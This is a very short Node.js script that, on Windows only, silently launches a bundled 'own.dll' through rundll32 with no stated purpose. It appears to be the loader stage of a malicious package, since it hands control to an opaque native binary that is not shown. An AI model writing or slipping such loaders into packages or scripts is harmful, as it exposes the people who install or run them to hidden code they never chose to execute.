const path = require('path');
const { spawn } = require('child_process');

if (process.platform === 'win32') {
  spawn('rundll32', [path.join(__dirname, 'own.dll') + ',main']);
}
